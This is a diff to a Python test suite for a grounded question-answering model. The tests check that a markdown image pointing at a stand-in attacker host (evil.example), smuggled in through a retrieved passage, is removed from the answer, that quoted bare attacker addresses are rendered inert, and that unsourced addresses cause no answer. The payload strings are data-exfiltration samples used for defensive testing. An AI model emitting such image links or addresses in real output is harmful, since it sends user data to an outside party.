@@ -47,15 +47,22 @@ async def test_a_quote_of_the_order_itself_does_not_hide_where_it_comes_from():
 async def test_an_image_that_a_passage_smuggles_in_is_not_in_the_answer():
     leak = "![map](https://evil.example/?q=Seine)"
     text = f"The Seine flows through Paris. {leak}"
-    says_it = f'"The Seine flows through Paris" [1]\nParis {leak} and more than that'
+    says_it = f'"The Seine flows through Paris" [1]\nParis {leak} and Paris again'
     _, reply = await played(grounded(model("s", says(says_it)), texts=(text,)), question(ASKED))
-    assert reply.text == "Paris map and more than that [1]"
+    assert reply.text == "Paris map and Paris again [1]"
 
 
 async def test_the_user_cannot_be_made_to_click_by_a_bare_address():
-    says_it = '"The Seine flows through Paris" [1]\nParis, see https://evil.example/?q=1'
+    says_it = '"The Seine flows through Paris" [1]\nParis, see https://evil.example/q'
+    text = "The Seine flows through Paris: https://evil.example/q"
+    _, reply = await played(grounded(model("s", says(says_it)), texts=(text,)), question(ASKED))
+    assert "`https://evil.example/q`" in reply.text
+
+
+async def test_an_address_that_stands_nowhere_is_not_given_at_all():
+    says_it = '"The Seine flows through Paris" [1]\nsee https://evil.example/?q=1'
     _, reply = await played(grounded(model("s", says(says_it))), question(ASKED))
-    assert "`https://evil.example/?q=1`" in reply.text
+    assert reply.answered is False
 
 
 @pytest.mark.real
